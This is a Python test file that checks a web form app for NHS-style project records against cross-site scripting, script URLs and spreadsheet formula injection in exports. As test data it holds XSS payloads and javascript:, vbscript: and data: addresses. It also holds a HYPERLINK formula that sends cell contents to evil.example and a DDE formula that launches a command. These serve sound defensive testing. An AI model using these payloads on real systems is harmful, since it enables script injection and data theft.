"""Script and markup typed into any field, or into a URL, is kept as typed and shown as text on every page it
reaches; a ``javascript:`` address is never accepted, and never a live link."""
from __future__ import annotations

import csv
import io

import pytest

from hostile import XSS_PAYLOADS, assert_no_injected_markup, page_of, records_in, shows
from web.webpages import BASE, project

FREE_TEXT = ("title", "aim", "lead", "keywords")
EVERY_INPUT = ("title", "aim", "division", "domains", "budget", "patient_facing", "lead_email", "website",
               "lead", "keywords", "follows", "start_date-day", "start_date-month", "start_date-year")


def save_hostile_record(client, payload: str) -> str:
    """A record whose free-text fields hold ``payload``, then edited so its history shows it changing."""
    response = client.post(BASE + "new", data=project(**{name: payload for name in FREE_TEXT}))
    assert response.status_code == 302, page_of(response).select(".nhsuk-error-summary")
    record = response.headers["Location"]
    edited = client.post(record + "/edit", data=project(title=payload + " (2)", aim=payload, lead=payload,
                                                       keywords=payload, version="1", status="In progress"))
    assert edited.status_code == 302
    return record


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_free_text_is_stored_as_typed_and_shown_as_text_on_every_page(app, client, payload):
    record = save_hostile_record(client, payload)
    [saved] = records_in(app)
    assert saved.values["aim"] == payload and saved.values["title"] == payload + " (2)"
    for url in (record, record + "/edit", record + "/history", BASE, BASE + "?state=open", "/qi/", "/"):
        response = client.get(url)
        assert response.status_code == 200, url
        page = assert_no_injected_markup(response)
        if url.startswith(record):
            assert shows(page, payload), url


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_search_filter_sort_and_page_parameters_are_shown_as_text(client, payload):
    save_hostile_record(client, payload)
    for name in ("q", "division", "keywords", "lead", "sort", "page", "state"):
        response = client.get(BASE, query_string={name: payload})
        assert response.status_code in (200, 400), name
        assert_no_injected_markup(response)
    assert shows(page_of(client.get(BASE, query_string={"q": payload})), payload)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_a_refused_form_shows_every_value_back_as_text(app, client, payload):
    response = client.post(BASE + "new", data={name: payload for name in EVERY_INPUT})
    assert response.status_code == 400
    page = assert_no_injected_markup(response)
    assert page.select_one("#title")["value"] == payload
    assert page.select_one("#aim").get_text() == payload
    assert page.select_one(".nhsuk-error-summary")
    assert records_in(app) == []


@pytest.mark.parametrize("address", [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "javascript://example.org/%0aalert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)", "//evil.example/x", "https:alert(1)",
])
def test_a_script_address_in_a_url_field_is_refused_with_a_clear_message(app, client, address):
    response = client.post(BASE + "new", data=project(website=address))
    assert response.status_code == 400
    page = assert_no_injected_markup(response)
    summary = page.select_one(".nhsuk-error-summary").get_text(" ", strip=True)
    assert "Enter website starting with https:// or http://" in summary
    assert records_in(app) == []


def test_a_web_address_with_quotes_and_markup_stays_one_inert_link(client):
    address = 'https://example.org/a"><script>alert(1)</script>?x=\'onmouseover=alert(1)'
    record = client.post(BASE + "new", data=project(website=address)).headers["Location"]
    page = assert_no_injected_markup(client.get(record))
    [link] = [a for a in page.select("main a") if a.get_text() == address]
    assert link["href"] == address and link["rel"] == ["noopener", "noreferrer"]


FORMULAS = ('=HYPERLINK("https://evil.example/?"&A1,"Open")', "+cmd|'/C calc'!A0", "-2+3", "@SUM(A1:A9)")


@pytest.mark.parametrize("fmt, mimetype", [("csv", "text/csv"), ("json", "application/json"),
                                           ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")])
def test_an_export_is_a_download_never_a_page(client, fmt, mimetype):
    save_hostile_record(client, XSS_PAYLOADS[0])
    response = client.get(BASE + "export", query_string={"format": fmt})
    assert response.status_code == 200
    assert response.mimetype == mimetype
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response.headers["Cache-Control"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_typed_into_a_field_is_exported_as_text(app, client, formula):
    client.post(BASE + "new", data=project(title=formula, lead=formula, keywords=formula))
    assert records_in(app)[0].values["title"] == formula
    csv_text = client.get(BASE + "export", query_string={"format": "csv"}).get_data(as_text=True)
    header, *rows = csv.reader(io.StringIO(csv_text.lstrip("\ufeff")))
    cells = dict(zip(header, rows[0]))
    assert cells["Project title"] == cells["Project lead"] == "'" + formula
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
